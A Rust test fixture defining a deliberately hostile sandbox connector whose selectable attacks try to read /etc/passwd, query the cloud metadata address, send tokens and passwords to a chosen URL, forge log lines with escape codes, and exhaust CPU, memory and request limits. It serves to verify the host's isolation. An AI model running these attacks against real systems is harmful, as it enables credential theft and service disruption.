//! A hostile test connector. The `attack` setup field picks what it tries;
//! it reports what it observed in the error it returns, so the test can
//! check that it observed nothing.

use sourcebox_sdk::EgressHost;
use sourcebox_sdk::SetupValues;
use sourcebox_sdk::http::Request;
use sourcebox_sdk::setup_value;
use sourcebox_sdk::{
    AccountIdentity, CollectRequest, Connector, ConnectorError, CredentialClass, CredentialField,
    Manifest, RunSummary, SetupField, Stream, credentials, export_connector, records,
};

struct Hostile;

fn observed(what: String) -> ConnectorError {
    ConnectorError::Fatal(what)
}

impl Connector for Hostile {
    fn describe() -> Manifest {
        Manifest::new("hostile", "0.1.0", "Hostile (test fixture)")
            .stream(Stream::new("loot", &["id"]))
            .credential(CredentialField::token("token", "Token").hosts(&["api.example.com"]))
            // A login's password, for a host the run may reach.
            .credential(
                CredentialField::new("login_password", "Password", CredentialClass::Password)
                    .hosts(&["127.0.0.1"])
                    .optional(),
            )
            .credential(
                CredentialField::new("session", "Session", CredentialClass::Session).optional(),
            )
            .setup_field(SetupField::new("attack", "Attack to try"))
            .setup_field(SetupField::new("target", "URL for the HTTP attacks").default_value(""))
            // Declared, so only the address checks stand in the way.
            .egress(EgressHost::Fixed("169.254.169.254".into()))
            .egress(EgressHost::Fixed("localhost".into()))
            .egress(EgressHost::Fixed("127.0.0.1".into()))
    }

    /// One account per token (a hash of it, never the token), so each
    /// source with a token of its own is an account of its own.
    fn verify(_setup: SetupValues) -> Result<AccountIdentity, ConnectorError> {
        let id = match credentials::get("token") {
            Ok(token) => format!(
                "{:x}",
                token
                    .expose_secret()
                    .bytes()
                    .fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
                        (h ^ u64::from(b)).wrapping_mul(0x100_0000_01b3)
                    })
            ),
            Err(_) => "hostile".into(),
        };
        Ok(AccountIdentity {
            display: format!("hostile-{}", &id[..id.len().min(6)]),
            id,
        })
    }

    fn collect(request: CollectRequest) -> Result<RunSummary, ConnectorError> {
        let attack = setup_value(&request.setup, "attack").unwrap_or("");
        match attack {
            "env" => {
                let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let args: Vec<String> = std::env::args().collect();
                Err(observed(format!("env={vars:?} args={args:?}")))
            }
            "files" => {
                let tries = [
                    "/etc/passwd",
                    "/",
                    ".",
                    "..",
                    "../../../../etc/passwd",
                    "sourcebox.db",
                ];
                let results: Vec<String> = tries
                    .iter()
                    .map(|p| {
                        format!(
                            "{p}:{}",
                            std::fs::read(p)
                                .map(|b| format!("read {} bytes", b.len()))
                                .unwrap_or_else(|_| "denied".into())
                        )
                    })
                    .collect();
                Err(observed(format!("files={results:?}")))
            }
            "undeclared-credential" => {
                let names = [
                    "password",
                    "github_token",
                    "GITHUB_TOKEN",
                    "AMAZON_PASSWORD",
                    "../token",
                    "token@other",
                ];
                let results: Vec<String> = names
                    .iter()
                    .map(|n| {
                        format!(
                            "{n}:{}",
                            credentials::get(n)
                                .map(|_| "resolved")
                                .unwrap_or_else(|e| e.name())
                        )
                    })
                    .collect();
                Err(observed(format!("credentials={results:?}")))
            }
            "spin" => {
                let mut x = 0u64;
                loop {
                    x = std::hint::black_box(x.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "record-flood" => {
                let mut i = 0u64;
                loop {
                    records::emit(
                        "loot",
                        &serde_json::json!({"id": i, "pad": "x".repeat(200)}),
                    )?;
                    i += 1;
                }
            }
            // Records the host must refuse, then one it must keep.
            "bad-records" => {
                let tries = [
                    ("loot", "not json"),
                    ("loot", "[1, 2]"),
                    ("loot", r#"{"pad": "no id"}"#),
                    ("loot", r#"{"id": null}"#),
                    ("nowhere", r#"{"id": 1}"#),
                    ("loot", r#"{"id": "kept"}"#),
                ];
                let results: Vec<&str> = tries
                    .iter()
                    .map(
                        |(stream, record)| match records::emit_json(stream, record) {
                            Ok(()) => "stored",
                            Err(e) => e.name(),
                        },
                    )
                    .collect();
                // Batches: empty; a blank line second; a record that is
                // not an object third.
                let batches = [
                    "",
                    "{\"id\": \"b1\"}\n\n{\"id\": \"b2\"}\n",
                    "{\"id\": \"b3\"}\n{\"id\": \"b4\"}\n[3]\n{\"id\": \"b5\"}",
                ];
                let batched: Vec<String> = batches
                    .iter()
                    .map(|lines| match records::emit_batch_json("loot", lines) {
                        Ok(()) => "stored".into(),
                        Err(e) => format!("{}@{}", e.error.name(), e.index),
                    })
                    .collect();
                Err(observed(format!("records={results:?} batches={batched:?}")))
            }
            // The boundary alone: one prebuilt 256-byte record, its id
            // rewritten in place, emitted as JSON text into the stream
            // named by `target`. Into an undeclared stream every emit is
            // refused, and it stops after `REFUSALS` of them.
            "raw-flood" => {
                const REFUSALS: u64 = 100_000;
                let stream = match setup_value(&request.setup, "target") {
                    Some("") | None => "loot",
                    Some(stream) => stream,
                };
                let mut record =
                    format!(r#"{{"id":"0000000000","pad":"{}"}}"#, "x".repeat(228)).into_bytes();
                let mut refused = 0u64;
                for i in 0u64.. {
                    let mut n = i;
                    for digit in record[7..17].iter_mut().rev() {
                        *digit = b'0' + (n % 10) as u8;
                        n /= 10;
                    }
                    let text = std::str::from_utf8(&record).expect("ASCII");
                    match records::emit_json(stream, text) {
                        Ok(()) => {}
                        Err(records::RecordError::UnknownStream) if refused + 1 < REFUSALS => {
                            refused += 1
                        }
                        Err(records::RecordError::UnknownStream) => break,
                        Err(e) => return Err(observed(format!("emit: {}", e.name()))),
                    }
                }
                Err(observed(format!("refused {} records", refused + 1)))
            }
            // The same records as raw-flood, a hundred to a call, and
            // batches kept coming whatever the host answers.
            "raw-batch-flood" => {
                const REFUSALS: u64 = 100_000;
                const BATCH: u64 = 100;
                let stream = match setup_value(&request.setup, "target") {
                    Some("") | None => "loot",
                    Some(stream) => stream,
                };
                let record = format!(r#"{{"id":"0000000000","pad":"{}"}}"#, "x".repeat(228));
                let line = record.len() + 1;
                let mut batch = format!("{record}\n").repeat(BATCH as usize).into_bytes();
                let mut refused = 0u64;
                for first in (0u64..).step_by(BATCH as usize) {
                    for (offset, at) in (0u64..).zip((0..batch.len()).step_by(line)) {
                        let mut n = first + offset;
                        for digit in batch[at + 7..at + 17].iter_mut().rev() {
                            *digit = b'0' + (n % 10) as u8;
                            n /= 10;
                        }
                    }
                    let text = std::str::from_utf8(&batch).expect("ASCII");
                    match records::emit_batch_json(stream, text) {
                        Ok(()) => {}
                        Err(e) if e.error == records::RecordError::UnknownStream => {
                            refused += BATCH;
                            if refused >= REFUSALS {
                                break;
                            }
                        }
                        // Told to stop; it goes on.
                        Err(_) => {}
                    }
                }
                Err(observed(format!("refused {refused} records")))
            }
            "trap" => panic!("deliberate trap"),
            "print" => {
                let token = credentials::get("token")?;
                println!("stdout from the guest: {}", token.expose_secret());
                eprintln!("stderr from the guest: {}", token.expose_secret());
                Ok(RunSummary { records: 0 })
            }
            "http-undeclared" => Ok(fetch("https://example.com/", false)?),
            "http-metadata" => Ok(fetch("http://169.254.169.254/latest/meta-data/", false)?),
            "http-loopback" => Ok(fetch("http://localhost:1/", false)?),
            // A declared, allowed host, but `token` declares no hosts.
            "http-flood" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                loop {
                    Request::get(target).send()?;
                }
            }
            // The password, injected while collecting, to a server that
            // would echo it back.
            "inject-password" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                let response = Request::get(target)
                    .bearer_credential("login_password")
                    .send()?;
                Err(observed(format!("status {}", response.status)))
            }
            // Overwrites what the owner entered.
            "put-owned" => {
                let results: Vec<String> = ["token", "login_password", "session"]
                    .iter()
                    .map(|name| {
                        let put = credentials::put(name, "overwritten by the connector");
                        format!(
                            "{name}:{}",
                            put.map(|()| "stored").unwrap_or_else(|e| e.name())
                        )
                    })
                    .collect();
                Err(observed(format!("put={results:?}")))
            }
            "put-huge" => {
                credentials::put("session", &"s".repeat(300 * 1024))?;
                Err(observed("a 300 KiB session was kept".into()))
            }
            // Reads one credential again and again.
            "read-loop" => {
                for _ in 0..20_000 {
                    credentials::get("token")?;
                }
                Err(observed("read 20000 times".into()))
            }
            // Header maps the host keeps, up to `target` of them (or until
            // refused), each filled as far as it takes; then waits.
            "fields-hold" => {
                let most: usize = setup_value(&request.setup, "target")
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(usize::MAX);
                let kept = raw::hold_fields(most);
                sourcebox_sdk::log::info(&format!("keeping {kept} header maps"));
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Err(observed(format!("kept {kept} header maps")))
            }
            // One header map, filled until the host stops it.
            "fields-big" => {
                let fields = raw::wasi::Fields::new();
                let value = vec![b'v'; 1024];
                let mut i = 0;
                while fields.append(&format!("x-pad-{i}"), &value).is_ok() {
                    i += 1;
                }
                Err(observed(format!("{i} fields kept")))
            }
            // A request given a megabyte of method and of authority.
            "long-request-strings" => {
                let request = raw::wasi::OutgoingRequest::new(raw::wasi::Fields::new());
                let method = request
                    .set_method(&raw::wasi::Method::Other("X".repeat(1 << 20)))
                    .map_or("refused", |()| "kept");
                let authority = request
                    .set_authority(Some(&format!("{}.example.com", "a".repeat(1 << 20))))
                    .map_or("refused", |()| "kept");
                let fair = request
                    .set_method(&raw::wasi::Method::Other("PROPFIND".into()))
                    .map_or("refused", |()| "kept");
                Err(observed(format!(
                    "method {method}, authority {authority}, PROPFIND {fair}"
                )))
            }
            // Twenty requests at once to a server that never answers.
            "http-parallel" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                let pending: Vec<_> = (0..20).filter_map(|_| raw::send(target).ok()).collect();
                for response in &pending {
                    response.subscribe().block();
                }
                Err(observed(format!("{} requests sent", pending.len())))
            }
            // Eight responses read side by side: the response budget is
            // one counter for all of them.
            "http-parallel-read" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                let total = raw::read_side_by_side(target, 8);
                sourcebox_sdk::log::info(&format!("read {total} bytes"));
                Err(observed(format!("read {total} bytes")))
            }
            "log-flood" => {
                for i in 0..1_000_000 {
                    sourcebox_sdk::log::info(&format!("line {i}"));
                }
                Err(observed("logged a million lines".into()))
            }
            "checkpoint-huge" => {
                records::checkpoint("loot", &"c".repeat(2 << 20))?;
                Err(observed("a 2 MiB checkpoint was kept".into()))
            }
            "record-huge" => {
                records::emit(
                    "loot",
                    &serde_json::json!({"id": 1, "pad": "r".repeat(2 << 20)}),
                )?;
                Err(observed("a 2 MiB record was kept".into()))
            }
            // Reads as api.example.com, goes to the target.
            "http-userinfo" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                let disguised = target.replacen("://", "://api.example.com@", 1);
                Ok(fetch(&disguised, true)?)
            }
            "steal-credential" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                Ok(fetch(target, true)?)
            }
            // Waits inside the host, where no guest code runs to interrupt.
            "sleep" => {
                std::thread::sleep(std::time::Duration::from_secs(3600));
                Err(observed("woke after an hour".into()))
            }
            // A request to a server that never answers, or trickles.
            "http-wait" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                Ok(fetch(target, false)?)
            }
            // The same, asking for hour-long timeouts: the host's shorter
            // ones still apply. Reports the error the request ended with.
            "http-options" => {
                let target = setup_value(&request.setup, "target").unwrap_or("");
                Err(observed(raw::get_with_hour_timeouts(target)))
            }
            // Asks the owner again and again, whatever the answer.
            "ask-loop" => loop {
                let _ = sourcebox_sdk::interaction::ask(
                    sourcebox_sdk::interaction::Kind::Otp,
                    "one more code, please",
                );
            },
            // Text that would forge a host log line or rewrite a terminal,
            // and the token placed across the log line's cut.
            "forge" => {
                let token = credentials::get("token")?;
                sourcebox_sdk::log::info(
                    "done\n2026-12-07T00:00:00Z  INFO sourcebox: collected 10 records\u{1b}[2K",
                );
                let pad = "x".repeat(1991);
                sourcebox_sdk::log::info(&format!("{pad}{}", token.expose_secret()));
                println!("{pad}{}", token.expose_secret());
                Err(ConnectorError::Fatal(format!(
                    "bad\nnews\u{1b}[31m red\u{202e}txet {}",
                    token.expose_secret()
                )))
            }
            other => Err(ConnectorError::Fatal(format!("unknown attack '{other}'"))),
        }
    }
}

fn fetch(url: &str, with_token: bool) -> Result<RunSummary, ConnectorError> {
    let mut request = Request::get(url);
    if with_token {
        request = request.bearer_credential("token");
    }
    let response = request.send()?;
    Err(ConnectorError::Fatal(format!(
        "reached {url}: status {}",
        response.status
    )))
}

/// What the SDK does not offer, straight through the contract's imports.
mod raw {
    use sourcebox_sdk::__private::wit::wasi::http::outgoing_handler;
    pub use sourcebox_sdk::__private::wit::wasi::http::types as wasi;
    use sourcebox_sdk::__private::wit::wasi::io::streams::StreamError;

    /// Creates header maps, each with fourteen 1 KiB fields (what the
    /// host's size per map allows), and keeps them all: at most `most`, or
    /// until the host stops it.
    pub fn hold_fields(most: usize) -> usize {
        let value = vec![b'v'; 1024];
        let mut kept = Vec::new();
        let mut appended = 0;
        while kept.len() < most {
            let fields = wasi::Fields::new();
            for i in 0..14 {
                if fields.append(&format!("x-pad-{i}"), &value).is_ok() {
                    appended += 1;
                }
            }
            kept.push(fields);
        }
        sourcebox_sdk::log::info(&format!("{appended} fields appended"));
        let n = kept.len();
        std::mem::forget(kept);
        n
    }

    /// A GET of `url` (`http://authority/path`), sent with `options`; its
    /// response to come.
    pub fn send_with(
        url: &str,
        options: Option<wasi::RequestOptions>,
    ) -> Result<wasi::FutureIncomingResponse, String> {
        let rest = url.strip_prefix("http://").unwrap_or(url);
        let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        let request = wasi::OutgoingRequest::new(wasi::Fields::new());
        let _ = request.set_scheme(Some(&wasi::Scheme::Http));
        let _ = request.set_authority(Some(authority));
        let _ = request.set_path_with_query(Some(if path.is_empty() { "/" } else { path }));
        outgoing_handler::handle(request, options).map_err(|code| format!("{code:?}"))
    }

    /// [`send_with`] no options.
    pub fn send(url: &str) -> Result<wasi::FutureIncomingResponse, String> {
        send_with(url, None)
    }

    /// Sends `n` GETs of `url` at once, then reads their bodies a chunk of
    /// each in turn, until each ends or one fails. Returns the bytes read.
    pub fn read_side_by_side(url: &str, n: usize) -> u64 {
        let pending: Vec<_> = (0..n).filter_map(|_| send(url).ok()).collect();
        let mut bodies = Vec::new();
        for response in pending {
            response.subscribe().block();
            if let Some(Ok(Ok(response))) = response.get()
                && let Ok(body) = response.consume()
                && let Ok(stream) = body.stream()
            {
                // Dropped stream first, then its body, then its response.
                bodies.push((stream, body, response));
            }
        }
        let mut total = 0u64;
        while !bodies.is_empty() {
            let mut i = 0;
            while i < bodies.len() {
                match bodies[i].0.blocking_read(16 * 1024) {
                    Ok(chunk) => {
                        total += chunk.len() as u64;
                        i += 1;
                    }
                    Err(StreamError::Closed) => {
                        bodies.remove(i);
                    }
                    Err(StreamError::LastOperationFailed(_)) => return total,
                }
            }
        }
        total
    }

    /// A GET of `url` (`http://authority/path`) with every timeout of its
    /// request options set to an hour; what it ended with, in words.
    pub fn get_with_hour_timeouts(url: &str) -> String {
        const HOUR_NS: u64 = 3_600_000_000_000;
        let options = wasi::RequestOptions::new();
        let _ = options.set_connect_timeout(Some(HOUR_NS));
        let _ = options.set_first_byte_timeout(Some(HOUR_NS));
        let _ = options.set_between_bytes_timeout(Some(HOUR_NS));
        let pending = match send_with(url, Some(options)) {
            Ok(pending) => pending,
            Err(code) => return format!("refused: {code}"),
        };
        pending.subscribe().block();
        match pending.get() {
            Some(Ok(Ok(response))) => format!("answered {}", response.status()),
            Some(Ok(Err(code))) => format!("ended: {code:?}"),
            other => format!("no response: {other:?}"),
        }
    }
}

export_connector!(Hostile);
